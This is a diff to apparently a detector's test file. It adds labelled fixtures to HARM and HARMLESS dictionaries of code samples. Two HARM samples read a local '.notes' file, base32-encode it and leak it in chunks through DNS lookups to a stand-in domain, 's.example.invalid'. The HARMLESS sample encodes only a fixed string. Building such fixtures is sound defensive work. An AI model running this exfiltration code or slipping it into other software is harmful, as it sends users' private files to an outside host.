@@ -78,6 +78,20 @@ HARM: dict[str, dict[str, str]] = {
             "lid')\n"
         ),
     },
+    "words that excuse others": {
+        "a.py": (
+            "import base64, socket\ntext = base64.b32encode(open('.notes', 'rb').read()).decode(); nonce = 1  # a dig"
+            "est\n"
+            "for at in range(0, len(text), 50):\n    socket.gethostbyname(text[at:at + 50] + '.s.example.invalid')\n"
+        )
+    },
+    "written down, and more": {
+        "a.py": (
+            "import base64, socket\nseed = b'probe'\nseed += open('.notes', 'rb').read()\n"
+            "text = base64.b32encode(seed).decode()\nfor at in range(0, len(text), 50):\n"
+            "    socket.gethostbyname(text[at:at + 50] + '.s.example.invalid')\n"
+        )
+    },
     "a look-up by a web address": {
         "a.py": (
             "import requests\nZONE = 'w.example.invalid'\nfor part in parts(open('.notes').read().encode().hex()):\n"
@@ -86,6 +100,12 @@ HARM: dict[str, dict[str, str]] = {
     },
 }  # fmt: skip
 HARMLESS: dict[str, dict[str, str]] = {
+    "a probe that is written down": {
+        "a.py": (
+            "import base64, socket\nseed = b'probe' * 12\ntext = base64.b32encode(seed).decode()\n"
+            "for at in range(0, len(text), 50):\n    socket.gethostbyname(text[at:at + 50] + '.s.example.invalid')\n"
+        )
+    },
     "a host that the user names": {"a.py": "import socket, sys\nprint(socket.gethostbyname(sys.argv[1]))\n"},
     "names below a domain": {
         "a.py": (
